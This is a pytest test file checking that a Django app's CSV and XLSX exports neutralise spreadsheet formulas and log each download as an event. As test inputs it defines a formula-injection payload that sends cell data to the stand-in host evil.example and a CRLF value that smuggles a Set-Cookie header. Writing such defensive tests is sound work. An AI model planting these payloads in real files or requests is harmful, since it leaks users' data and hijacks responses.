"""Spreadsheet exports: text people typed or imported never becomes a formula in CSV or XLSX, and every
download is an event naming who took what. A grid is named '=HYPERLINK(…)' and its month exported as a
grid-level evaluation, through the web page and the REST API, in both formats.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from openpyxl import load_workbook
from rest_framework.test import APIClient

from chuishao import clock
from chuishao.cases.services import case_file
from chuishao.evaluation.services import rollup_rebuild
from chuishao.events.models import Event
from chuishao.geo.models import Jurisdiction
from chuishao.spreadsheets import FORMULA_STARTS, safe_text

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
GRID = "110901001001001"
AT = dt.datetime(2026, 5, 12, 10, 0, tzinfo=dt.UTC)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised_and_other_values_are_not(start):
    assert safe_text(f"{start}1+1") == f"'{start}1+1"
    assert safe_text("路灯 -1") == "路灯 -1" and safe_text(-5) == -5 and safe_text(None) is None


@pytest.fixture
def month(city, report):
    Jurisdiction.objects.filter(code=GRID).update(name=HOSTILE)
    with clock.frozen(AT):
        case_file(case=report(grid=GRID, description=HOSTILE), actor=city.people["street-a"])
        rollup_rebuild(settle=dt.timedelta(0))
    return "2026-05"


def _cells(content: bytes, fmt: str) -> list:
    if fmt == "csv":
        return [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
    return [c for row in load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True) for c in row]


def _formula_like(cells: list) -> list:
    def number(v: str) -> bool:
        try:
            float(v)
        except ValueError:
            return False
        return True

    return [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS) and not number(c)]


def _web(city, period, fmt):
    client = APIClient()
    client.force_login(city.people["city"])
    return client.get("/evaluation/", {"unit": "grid", "period": period, "format": fmt})


def _api(city, period, fmt):
    client = APIClient()
    client.force_login(city.people["city"])
    return client.get("/api/v1/evaluation/export/", {"unit": "grid", "period": period, "format": fmt})


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("door", [_web, _api], ids=["web", "api"])
def test_a_hostile_grid_name_stays_text_and_the_download_is_an_event(city, month, door, fmt):
    before = Event.objects.filter(verb="export.downloaded").count()
    response = door(city, month, fmt)
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    cells = _cells(response.content, fmt)
    assert "'" + HOSTILE in cells, "the grid's row is in the file, as text"
    assert _formula_like(cells) == []
    events = Event.objects.filter(verb="export.downloaded")
    assert events.count() == before + 1
    event = events.latest("id")
    assert event.after == {"what": "evaluation", "format": fmt, "rows": 1, "unit": "grid", "period": month}
    assert event.actor_id == city.people["city"].pk


@pytest.mark.parametrize(
    "period", ["2026-05\r\nSet-Cookie: a=b", "garbage", "2026-13", "x" * 5000, "20２６-０５"]
)
def test_an_odd_period_on_the_web_page_is_the_current_month(city, period):
    client = APIClient()
    client.force_login(city.people["city"])
    response = client.get("/evaluation/", {"unit": "grid", "period": period, "format": "csv"})
    assert response.status_code == 200
    assert re.fullmatch(
        r'attachment; filename="evaluation-grid-20\d\d-\d\d\.csv"', response["Content-Disposition"]
    )
    assert re.fullmatch(r"20\d\d-\d\d", Event.objects.filter(verb="export.downloaded").get().after["period"])


@pytest.mark.parametrize(
    ("who", "url", "what"),
    [
        ("city", "/dashboard/?format=xlsx", {"what": "dashboard", "node": "110000"}),
        ("street-a", "/workers/110901001/?format=xlsx", {"what": "workers", "node": "110901001"}),
    ],
    ids=["dashboard", "workers"],
)
def test_the_other_spreadsheet_downloads_are_events_too(city, who, url, what):
    client = APIClient()
    client.force_login(city.people[who])
    response = client.get(url)
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    event = Event.objects.filter(verb="export.downloaded").get()
    assert event.actor_id == city.people[who].pk and what.items() <= event.after.items()
